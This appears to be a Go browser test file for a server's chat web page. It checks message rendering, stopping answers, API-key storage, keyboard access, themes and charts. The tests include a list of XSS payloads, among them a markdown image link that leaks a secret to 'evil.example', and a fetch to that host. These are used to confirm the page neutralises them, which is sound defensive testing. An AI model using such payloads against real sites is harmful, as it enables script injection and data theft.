@@ -1,0 +1,389 @@
+package server
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/chromedp/chromedp/kb"
+
+	"prunellm/infer"
+	"prunellm/internal/browsertest"
+	"prunellm/openapi"
+)
+
+// browse opens the page of a server over fakes. The race detector's run leaves browsers out: they are another process.
+func browse(t *testing.T, models Models, change ...func(*Options)) (*browsertest.Page, *testServer) {
+	t.Helper()
+	if testing.Short() {
+		t.Skip("needs a browser")
+	}
+	s := serve(t, models, change...)
+	return browsertest.Open(t, s.url, "/", 1280, 800), s
+}
+
+// ask types a message and sends it with the keyboard alone.
+func ask(p *browsertest.Page, text string) {
+	p.WaitFor("the model's name", `document.querySelector("#model").textContent === "tiny"`)
+	p.Type("#prompt", text+kb.Enter)
+}
+
+const answered = `document.querySelector(".turn.assistant:last-child")?.getAttribute("aria-busy") === "false"`
+
+func TestPageChats(t *testing.T) {
+	models := newFake()
+	models.answer = func(infer.Request) string { return "A **bold** answer:\n\n- one\n- two\n\n```go\nx := 1\n```\n" }
+	page, s := browse(t, models)
+	ask(page, "Hello")
+	page.WaitFor("an answer", answered)
+	if got := page.Text(".turn.assistant strong"); got != "bold" {
+		t.Errorf("bold text = %q, want bold", got)
+	}
+	if got := browsertest.Eval[int](page, `document.querySelectorAll(".turn.assistant li").length`); got != 2 {
+		t.Errorf("list items = %d, want 2", got)
+	}
+	if got := page.Text(".turn.assistant .speaker"); got != "tiny@0.2" {
+		t.Errorf("the answer is by %q, want tiny@0.2", got)
+	}
+	page.WaitFor("the card", `document.querySelector("#card").innerText.includes("19.7 %")`)
+	page.CheckAccessibility("after an answer")
+	// A second question carries the first turn.
+	ask(page, "And then?")
+	page.WaitFor("a second answer", `document.querySelectorAll(".turn.assistant[aria-busy=false]").length === 2`)
+	models.mu.Lock()
+	prompt := len(models.requests[1].Prompt)
+	first := len(models.requests[0].Prompt)
+	models.mu.Unlock()
+	if prompt < first+40 {
+		t.Errorf("second prompt has %d tokens after %d, want the first turn in it", prompt, first)
+	}
+	_ = s
+}
+
+// The stop button and Escape end an answer, on the server too; what had come stays.
+func TestPageStops(t *testing.T) {
+	models := newFake()
+	models.answer = func(infer.Request) string { return strings.Repeat("word ", 10) }
+	models.wait = func(ctx context.Context, token int) error {
+		if token < 10 {
+			return nil
+		}
+		<-ctx.Done()
+		return ctx.Err()
+	}
+	page, _ := browse(t, models)
+	for i, stop := range []func(){func() { page.Click("#send") }, func() { page.Type("#prompt", kb.Escape) }} {
+		ask(page, "Hello")
+		page.WaitFor("the beginning of an answer", `document.querySelector(".turn.assistant:last-child .markdown")?.innerText.includes("word word")`)
+		if got := page.Text("#send"); got != "Stop" {
+			t.Errorf("button while answering = %q, want Stop", got)
+		}
+		stop()
+		page.WaitFor("the end of the answer", answered)
+		eventually(t, "the generation ends", func() bool { return models.running.Load() == 0 })
+		if got := page.Text(".turn.assistant:last-child .meta"); got != "Stopped." {
+			t.Errorf("answer %d ends with %q, want Stopped.", i, got)
+		}
+		if got := page.Text(".turn.assistant:last-child .markdown"); got != "word word" {
+			t.Errorf("answer %d = %q, want what had come", i, got)
+		}
+	}
+}
+
+// hostile is what a model might write that a careless page would run, load or follow.
+var hostile = []string{
+	`<script>window.hacked = 1</script>`,
+	`<img src=x onerror="window.hacked = 1">`,
+	`<svg onload="window.hacked = 1"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
+	`[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) [v](vbscript:x)`,
+	"[tab](java\tscript:window.hacked=1) <javascript:window.hacked=1>",
+	`![picture](https://evil.example/leak?q=secret) ![p2](//evil.example/x.png "t")`,
+	`[plain](https://example.org/a?b=c&d="><script>window.hacked=1</script>)`,
+	"```html\n<script>window.hacked = 1</script>\n```",
+	"| a | <img src=x onerror=window.hacked=1> |\n|---|---|\n| `<b>` | <style>body{display:none}</style> |",
+	`<a href="https://evil.example" onclick="window.hacked=1">x</a> <form action=https://evil.example><input name=q>`,
+	`<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
+	`&lt;script&gt;window.hacked=1&lt;/script&gt; __proto__ constructor`,
+	strings.Repeat(">", 3000) + " deep",
+	strings.Repeat("[", 2000) + strings.Repeat("*a ", 500) + strings.Repeat("](x)", 500),
+	strings.Repeat("- ", 400) + "deep list",
+}
+
+func TestHostileMarkdown(t *testing.T) {
+	page, _ := browse(t, newFake())
+	page.WaitFor("the model's name", `document.querySelector("#model").textContent === "tiny"`)
+	for _, text := range hostile {
+		name := text[:min(len(text), 50)]
+		found := browsertest.Eval[[]string](page, fmt.Sprintf(`import("/web/markdown.js").then(({ markdown }) => {
+			const root = document.createElement("div");
+			root.className = "markdown";
+			root.append(...markdown(%q));
+			document.querySelector("#log").append(root);
+			const wrong = [...root.querySelectorAll("script, img, iframe, svg, style, object, embed, form, input, link, meta, base, video, audio")].map((e) => e.localName);
+			for (const e of root.querySelectorAll("*")) for (const a of e.attributes) {
+				if (a.name.startsWith("on") || a.name === "style" || a.name === "srcdoc") wrong.push(e.localName + " " + a.name);
+				if ((a.name === "href" || a.name === "src") && !/^(https?|mailto):/.test(a.value)) wrong.push(a.name + " " + a.value);
+			}
+			for (const a of root.querySelectorAll("a")) if (!a.rel.includes("noopener") || a.target !== "_blank") wrong.push("link " + a.outerHTML);
+			if (root.textContent.trim() === "") wrong.push("nothing is shown");
+			return wrong;
+		})`, text))
+		if len(found) > 0 {
+			t.Errorf("%q became %v", name, found)
+		}
+	}
+	if browsertest.Eval[bool](page, `"hacked" in window`) {
+		t.Error("something of the hostile text ran")
+	}
+}
+
+// The same through a chat: the answer's HTML is shown as text.
+func TestHostileAnswer(t *testing.T) {
+	models := newFake()
+	models.answer = func(infer.Request) string { return strings.Join(hostile[:12], "\n\n") }
+	page, _ := browse(t, models)
+	ask(page, `<img src=x onerror="window.hacked=1">`)
+	page.WaitFor("an answer", answered)
+	if browsertest.Eval[bool](page, `"hacked" in window`) {
+		t.Error("something of the hostile text ran")
+	}
+	if got := page.Text(".turn.assistant"); !strings.Contains(got, "<script>") {
+		t.Errorf("the answer shows %q, want its HTML as text", got)
+	}
+	if got := page.Text(".turn.user"); !strings.Contains(got, "<img") {
+		t.Errorf("the question shows %q, want its HTML as text", got)
+	}
+}
+
+// A server with keys: the page asks for one, keeps it for the tab alone, and a wrong one is told.
+func TestPageAsksForKey(t *testing.T) {
+	page, _ := browse(t, newFake(), func(o *Options) { o.APIKeys = func() []string { return []string{"secret"} } })
+	page.WaitFor("the dialog", `document.querySelector("#key-dialog").open`)
+	page.CheckAccessibility("key dialog")
+	page.Type("#key", "wrong"+kb.Enter)
+	page.WaitFor("the dialog again", `document.querySelector("#key-dialog").open && document.querySelector("#state").innerText.includes("not valid")`)
+	browsertest.Eval[string](page, `document.querySelector("#key").value = ""`)
+	page.Type("#key", "secret"+kb.Enter)
+	ask(page, "Hello")
+	page.WaitFor("an answer", answered)
+	if got := browsertest.Eval[string](page, `JSON.stringify([Object.values(sessionStorage), Object.values(localStorage), document.cookie])`); got != `[["secret"],[],""]` {
+		t.Errorf("session storage, local storage and cookie = %s, want the key in the first alone", got)
+	}
+	for _, complaint := range page.Complaints() {
+		if !strings.Contains(complaint, "401") {
+			t.Error(complaint)
+		}
+	}
+}
+
+// While the server is not ready, the page says how far it is, and goes on by itself.
+func TestPageWaitsForServer(t *testing.T) {
+	var ready atomic.Bool
+	models := &changing{fakeModels: newFake(), ready: &ready}
+	page, _ := browse(t, models)
+	page.WaitFor("the progress", `document.querySelector("#state").innerText.includes("scoring: 40 %")`)
+	page.Screenshot("waiting")
+	ready.Store(true)
+	page.WaitFor("no progress any more", `document.querySelector("#state").hidden`)
+	ask(page, "Hello")
+	page.WaitFor("an answer", answered)
+	for _, complaint := range page.Complaints() {
+		if !strings.Contains(complaint, "503") {
+			t.Error(complaint)
+		}
+	}
+}
+
+// changing is a Models that becomes ready.
+type changing struct {
+	*fakeModels
+	ready *atomic.Bool
+}
+
+func (c *changing) Status() Status {
+	if c.ready.Load() {
+		return Status{Ready: true}
+	}
+	return Status{Progress: "scoring: 40 %"}
+}
+
+// A variant that is being made, and one that cannot be: the answer says so, and a busy server is asked again.
+func TestPageWaitsForVariant(t *testing.T) {
+	models := newFake()
+	gate := make(chan struct{})
+	var refused atomic.Bool
+	models.acquire = func(ctx context.Context, name openapi.ModelName) error {
+		if !refused.Swap(true) {
+			return &NotReadyError{Progress: "too many variants are being made", RetryAfter: 1}
+		}
+		select {
+		case <-gate:
+			return nil
+		case <-ctx.Done():
+			return ctx.Err()
+		}
+	}
+	page, _ := browse(t, models)
+	ask(page, "Hello")
+	page.WaitFor("the reason", `document.querySelector(".meta")?.innerText.includes("too many variants")`)
+	close(gate)
+	page.WaitFor("an answer", answered)
+	// To the far end of the slider with the keyboard: the server says that this is too much.
+	page.Type("#chat-ratio-input", kb.End)
+	ask(page, "More")
+	page.WaitFor("the refusal", `document.querySelector(".turn.assistant:last-child .error")?.innerText.includes("cannot be reached")`)
+	if got := browsertest.Eval[string](page, `document.querySelector("#prompt").value`); got != "More" {
+		t.Errorf("the message box holds %q, want the message that was not answered", got)
+	}
+	for _, complaint := range page.Complaints() {
+		if !strings.Contains(complaint, "503") && !strings.Contains(complaint, "400") {
+			t.Error(complaint)
+		}
+	}
+}
+
+// measured is a Models whose variants have full cards.
+type measured struct{ *fakeModels }
+
+func (m measured) List() []openapi.Model {
+	var list []openapi.Model
+	for i, ratio := range []float64{0.2, 0, 0.1, 0.3, 0.4} {
+		speed, agreement := 40+100*ratio, 1-ratio
+		worse, divergence := 1+2*ratio, ratio
+		card := &openapi.Card{
+			Ratio: ratio, RatioReached: ratio * 0.985, Parameters: int64(134.5e6 * (1 - ratio)), Bytes: int64(145e6 * (1 - ratio)),
+			KeptMLP: 1 - 1.7*ratio, ContextTokens: 4096, OutputTokensPerSec: &speed,
+		}
+		itl, ttft := 1000/speed, 80.0
+		card.ITL, card.TTFT = &itl, &ttft
+		if ratio > 0 {
+			perplexity := 18.2 * worse
+			card.Perplexity, card.PerplexityRatio, card.KLToDense, card.Top1Agreement, card.EvalTokens = &perplexity, &worse, &divergence, &agreement, 4096
+		}
+		entry := openapi.Model{ID: "tiny", Object: "model", Created: 1700000000, OwnedBy: "prunellm", Card: card}
+		if i == 0 {
+			list = append(list, entry)
+		}
+		entry.ID = "tiny@" + openapi.FormatRatio(ratio)
+		list = append(list, entry)
+	}
+	return list
+}
+
+// Tabs by keyboard, the comparison with its two cards, the chart with its table; all of it accessible in both themes.
+func TestPageComparesAndCharts(t *testing.T) {
+	models := newFake()
+	models.answer = func(r infer.Request) string {
+		return "The **gardener** cuts what bears no fruit, so that the rest grows better:\n\n1. look at the whole tree,\n2. cut little,\n3. wait and see.\n\n> Prune in winter.\n"
+	}
+	page, _ := browse(t, measured{models})
+	ask(page, "What does a gardener do?")
+	page.WaitFor("an answer", answered)
+	page.WaitFor("a full card", `document.querySelector("#card").innerText.includes("Same next token")`)
+	page.Screenshot("chat-light")
+
+	page.Type("#tab-chat", kb.ArrowRight)
+	page.WaitFor("the comparison", `!document.querySelector("#compare").hidden && document.activeElement.id === "tab-compare"`)
+	page.Type("#compare-prompt", "What does a gardener do?"+kb.Enter)
+	page.WaitFor("both answers", `document.querySelectorAll("#compare .turn[aria-busy=false]").length === 2 && document.querySelectorAll("#compare .variant").length === 2`)
+	if got := browsertest.Eval[string](page, `[...document.querySelectorAll("#compare .variant")].map((e) => e.innerText).join()`); got != "tiny@0,tiny@0.2" {
+		t.Errorf("compared are %s, want tiny@0 and tiny@0.2", got)
+	}
+	models.mu.Lock()
+	if left, right := models.requests[1], models.requests[2]; left.Sampling.Seed != right.Sampling.Seed || len(left.Prompt) != len(right.Prompt) {
+		t.Errorf("the two requests differ: %+v and %+v", left.Sampling, right.Sampling)
+	}
+	models.mu.Unlock()
+	page.CheckAccessibility("comparison")
+	page.Screenshot("compare-light")
+
+	page.Type("#tab-compare", kb.ArrowRight)
+	page.WaitFor("the chart", `document.querySelectorAll("#figure circle").length === 5`)
+	page.WaitFor("the table", `document.querySelectorAll("#table tbody tr").length === 5`)
+	page.CheckAccessibility("chart")
+	page.Screenshot("chart-light")
+	// Better is up for every measure: the dense model is the topmost dot.
+	for _, measure := range []string{"top1_agreement", "perplexity_ratio", "kl_to_dense"} {
+		top := browsertest.Eval[string](page, fmt.Sprintf(`(() => {
+			const choice = document.querySelector("#quality");
+			choice.value = %q;
+			choice.dispatchEvent(new Event("change"));
+			const dots = [...document.querySelectorAll("#figure circle")].sort((a, b) => a.cy.baseVal.value - b.cy.baseVal.value);
+			return dots[0].textContent;
+		})()`, measure))
+		if top != "ratio 0" {
+			t.Errorf("topmost by %s is %q, want ratio 0", measure, top)
+		}
+	}
+
+	for range 2 { // system, light, dark
+		page.Click("#theme-button")
+	}
+	page.WaitFor("the dark theme", `getComputedStyle(document.body).backgroundColor === "rgb(23, 20, 26)"`)
+	page.CheckAccessibility("dark chart")
+	page.Screenshot("chart-dark")
+	page.Click("#tab-compare")
+	page.Screenshot("compare-dark")
+	page.Click("#tab-chat")
+	page.CheckAccessibility("dark chat")
+	page.Screenshot("chat-dark")
+
+	page.Phone()
+	for _, tab := range []string{"chat", "compare", "chart"} {
+		page.Click("#tab-" + tab)
+		page.WaitFor("a page no wider than the screen", `document.documentElement.scrollWidth <= 390`)
+		page.Screenshot("mobile-" + tab)
+	}
+}
+
+// Everything can be reached and done without a mouse.
+func TestPageByKeyboard(t *testing.T) {
+	page, _ := browse(t, measured{newFake()})
+	page.WaitFor("the model's name", `document.querySelector("#model").textContent === "tiny"`)
+	var order []string
+	for range 10 {
+		page.Press(kb.Tab)
+		order = append(order, browsertest.Eval[string](page, `document.activeElement.id || document.activeElement.className`))
+	}
+	want := []string{"skip", "tab-chat", "key-button", "theme-button", "log", "chat-ratio-input", "prompt", "send", "new-chat", "card"}
+	if strings.Join(order, " ") != strings.Join(want, " ") {
+		t.Errorf("the tab key leads to %v, want %v", order, want)
+	}
+	page.Type("#chat-ratio-input", kb.Home+kb.ArrowRight+kb.ArrowRight)
+	if got := browsertest.Eval[string](page, `document.querySelector("#chat-ratio-input").getAttribute("aria-valuetext")`); got != "0.1, 10 % of all parameters removed" {
+		t.Errorf("the slider reads %q", got)
+	}
+	ask(page, "Hello")
+	page.WaitFor("an answer", answered)
+	if got := page.Text(".turn.assistant .speaker"); got != "tiny@0.1" {
+		t.Errorf("the answer is by %q, want tiny@0.1", got)
+	}
+	page.WaitFor("the announcement", `document.querySelector("#announce").textContent === "The answer is complete"`)
+	if got := browsertest.Eval[string](page, `document.activeElement.id`); got != "prompt" {
+		t.Errorf("after the answer the focus is on %q, want prompt", got)
+	}
+}
+
+// The page's own script cannot turn a string into HTML even by mistake.
+func TestPagePolicyHolds(t *testing.T) {
+	page, s := browse(t, newFake())
+	for _, attempt := range []string{
+		`document.querySelector("#log").innerHTML = "<b>x</b>"`,
+		`document.write("x")`,
+		`await fetch("https://evil.example/")`,
+	} {
+		got := browsertest.Eval[string](page, fmt.Sprintf(`(async () => { try { await (async () => { %s })(); return "done" } catch (e) { return e.name } })()`, attempt))
+		if got != "TypeError" {
+			t.Errorf("%s: %s, want a TypeError", attempt, got)
+		}
+	}
+	if blocked := strings.Join(page.Complaints(), "\n"); !strings.Contains(blocked, "evil.example") {
+		t.Errorf("the policy let a request to somebody else pass: %s", blocked)
+	}
+	if got := s.do(http.MethodGet, "/", ""); got.header.Get("Content-Security-Policy") == "" {
+		t.Error("the page has no policy")
+	}
+}
